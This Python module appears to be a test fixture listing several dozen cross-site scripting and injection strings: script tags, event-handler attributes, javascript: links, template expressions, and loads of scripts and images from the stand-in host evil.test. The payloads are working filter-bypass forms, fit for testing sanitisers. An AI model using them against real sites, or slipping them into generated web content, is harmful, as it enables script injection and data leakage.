"""Texts that would run a script, fetch something or break out of their place, were they taken for more than text."""

from __future__ import annotations

OUT = "http://evil.test"
_RUN = "window.ran=1"

PAYLOADS = (
    # ── a script, plainly ──
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f'<script src="{OUT}/1.js"></script>',
    f"<script type=module>import('{OUT}/2.js')</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    # ── an attribute that is run ──
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}' x='",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></mtext></math>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<body onload={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    # ── an address that is run ──
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt&colon;{_RUN})",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>parent.{_RUN}</script>'>x</a>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    # ── something fetched, or a way out for what stands on the page ──
    f"![x]({OUT}/3.png)",
    f'<img src="{OUT}/4.png" srcset="{OUT}/5.png 2x">',
    f"<link rel=stylesheet href={OUT}/6.css>",
    f"<link rel=prefetch href={OUT}/7>",
    f"<style>@import '{OUT}/8.css';</style>",
    f'<p style="background:url({OUT}/9.png)">x</p>',
    f"<base href='{OUT}/'>",
    f"<iframe src={OUT}/10></iframe>",
    f"<video src={OUT}/11.mp4 autoplay poster={OUT}/12.png></video>",
    f"<meta http-equiv=refresh content='0;url={OUT}/13'>",
    f"<form action={OUT}/14><input name=x></form>",
    f"<img src='{OUT}/15?",  # would swallow all up to the next quotation mark
    # ── what a template, a formula or Markdown would take for its own ──
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "$$\\href{javascript:window.ran=1}{x}$$",
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f"</div></mark></q></li></ul></p><img src=x onerror={_RUN}><!--",
    "\u202e<tpircs>\u202c \u2028 \x07 \ufeff",
)
